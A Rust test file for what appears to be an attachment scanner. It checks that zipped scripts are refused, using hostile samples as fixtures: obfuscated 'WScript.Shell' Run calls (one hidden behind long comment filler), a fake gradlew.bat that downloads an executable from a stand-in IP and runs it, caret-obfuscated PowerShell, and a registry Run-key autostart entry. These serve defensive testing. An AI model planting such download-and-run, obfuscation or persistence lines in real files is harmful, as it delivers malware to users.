//! Scripts among other files of an archive: source code, and what was put among it.

use mailkeep_inspect::Level;

use crate::build::{self, Entry};
use crate::refusing;

/// Whether a script of this name passes at the default level beside so many other files.
fn passes(name: &str, script: &str, others: &[(String, &str)]) -> bool {
    let mut entries: Vec<_> = others
        .iter()
        .map(|(name, octets)| Entry::new(name, octets.as_bytes()))
        .collect();
    entries.push(Entry::new(name, script.as_bytes()));
    let archive = build::zip(&entries);
    refusing("a.zip", "application/zip", &archive, Level::Default).is_empty()
}

fn texts(count: usize) -> Vec<(String, &'static str)> {
    (0..count)
        .map(|nth| (format!("notes/{nth}.txt"), "Nothing of interest.\n"))
        .collect()
}

fn beside(name: &str, octets: &'static str) -> Vec<(String, &'static str)> {
    vec![(name.to_owned(), octets)]
}

/// Splits what it asks Windows for.
const HIDES: &str =
    "document; new this['Act' + 'iveXObject']('WScr' + 'ipt.Sh' + 'ell')['R' + 'un'](a);\n";

/// Computes it.
const RUNS: &str = "var a = [99, 97]; this[f(a)](g(a))[h(a)](a);\n";

const SITE: &str =
    "document.querySelector('#a').addEventListener('click', function () { a(b); });\n";

#[test]
fn a_script_that_hides_what_it_uses_does_not_pass_beside_any_number_of_files() {
    for others in [
        texts(12),
        texts(500),
        beside("package.json", "{}"),
        beside("a.html", "<html>"),
    ] {
        assert!(!passes("js/a.js", HIDES, &others), "{}", others.len());
    }
}

#[test]
fn a_script_that_computes_what_it_calls_does_not_pass_beside_a_few_files_or_a_page() {
    for others in [
        texts(12),
        texts(150),
        beside("package.json", "{}"),
        beside("a.html", "<html>"),
    ] {
        assert!(!passes("js/a.js", RUNS, &others), "{}", others.len());
        assert!(passes("js/a.js", SITE, &others), "{}", others.len());
    }
    assert!(passes("js/a.js", RUNS, &texts(250)));
}

#[test]
fn what_stands_behind_64_kib_of_comments_is_looked_at() {
    let filler = "// A library of long standing, with many words on its licence.\n".repeat(2000);
    let hides = format!("{filler}{HIDES}");
    assert!(!passes("js/a.js", &hides, &texts(20)));
    let asks = format!("{filler}document; new ActiveXObject('WScript.Shell').Run(a);\n");
    assert!(!passes("js/a.js", &asks, &texts(20)));
    assert!(passes("js/a.js", &format!("{filler}{SITE}"), &texts(20)));
}

#[test]
fn a_batch_file_that_fetches_a_program_does_not_pass_among_sources() {
    let builds = "@echo off\r\nset DIR=%~dp0\r\njava -jar \"%DIR%gradle-wrapper.jar\" %*\r\n";
    assert!(passes("gradlew.bat", builds, &texts(20)));
    let fetches = "@echo off\r\ncurl -s http://203.0.113.1/a -o %TEMP%\\a.exe\r\n%TEMP%\\a.exe\r\n";
    assert!(!passes("gradlew.bat", fetches, &texts(20)));
    let hides = "@echo off\r\np^ow^ersh^ell a\r\n";
    assert!(!passes("gradlew.bat", hides, &texts(500)));
    let starts = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"b\"\r\n";
    assert!(!passes("settings.reg", starts, &texts(20)));
}
